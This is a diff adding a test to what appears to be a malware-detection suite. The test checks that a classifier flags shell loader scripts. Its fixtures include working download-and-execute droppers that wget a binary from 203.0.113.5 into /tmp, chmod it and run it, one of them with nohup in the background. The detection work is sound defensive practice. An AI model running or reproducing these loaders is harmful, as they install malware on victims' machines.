@@ -24,6 +24,22 @@ test('programs, scripts and miners’ configurations, whatever they call themsel
   assert.deepEqual(carved(config, 'application/json'), [['configuration', ...from, true]])
 })
 
+test('a loader without a first line that says so; near miss: a page, notes that quote a command, a script that fetches nothing', () => {
+  const loader = 'cd /tmp || cd /var/run\nwget http://203.0.113.5/x86; chmod +x x86; ./x86 ssh\n'
+  assert.deepEqual(carved(loader, 'text/plain')?.[0]?.slice(0, 1), ['script'])
+  assert.deepEqual(carved(`${'# c\n'.repeat(300)}${loader}`)?.[0]?.slice(0, 1), ['script'])
+  const called = 'get() { wget -q -O - $1 > $2; chmod +x $2; }\ncd /tmp\nget http://203.0.113.5/x86 k\nnohup ./k >/dev/null 2>&1 &\n'
+  assert.deepEqual(carved(called)?.[0]?.slice(0, 1), ['script'])
+  for (const text of [
+    `<pre>${loader}</pre>`,
+    'cd /opt\nwget http://10.0.0.1/app.tgz\ntar xf app.tgz\n',
+    'Fetch it with wget, then read the manual.\n',
+    'cd /tmp\nls -la\n',
+    `${loader}${'#'.repeat(70_000)}`,
+  ])
+    assert.equal(carved(text, 'text/plain'), undefined)
+})
+
 test('a program that calls itself a picture, and one that is packed on its way from a place without a name', () => {
   const elf = `\x7fELF\x02\x01\x01${'x'.repeat(600)}`
   assert.equal(carved(elf, 'image/png')?.length, 1)
